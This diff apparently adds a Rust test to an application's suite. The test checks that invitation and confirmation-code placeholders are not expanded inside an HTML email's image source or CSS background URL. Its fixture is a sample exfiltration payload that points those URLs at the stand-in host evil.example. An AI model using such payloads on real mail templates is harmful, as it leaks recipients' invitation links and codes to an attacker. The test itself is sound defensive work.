@@ -198,6 +198,21 @@ fn row_15_names_are_text_in_the_mail_and_on_the_page() {
 }
 
 #[test]
+fn row_15_opening_a_mail_sends_its_link_to_nobody() {
+    let app = App::new();
+    let body = "<img src='https://evil.example/{{invitation-link}}'>\
+        <p style='background: url(//evil.example/{{confirmation-code}})'><a href='{{invitation-link}}'>Here</a></p>";
+    let template = json!({ "contentType": "text/html", "subject": "Come in", "body": body, "footer": "" });
+    assert_eq!(app.admin("PUT", &format!("{ASK}/org-templates/en_US"), template.to_string()).status, 200);
+    app.invite("paul");
+    let link = app.newest_link();
+    let html = app.inbox().remove(0)["html"].as_str().unwrap().to_owned();
+    assert!(html.contains("src='https://evil.example/'") && html.contains("url(//evil.example/)"), "{html}");
+    assert!(html.contains(&format!("{link}'>Here</a>")), "{html}");
+    assert_eq!(html.matches("lk1.").count(), 1, "{html}");
+}
+
+#[test]
 fn row_16_nobody_is_sent_to_another_site() {
     let app = App::new();
     app.invite("paul");
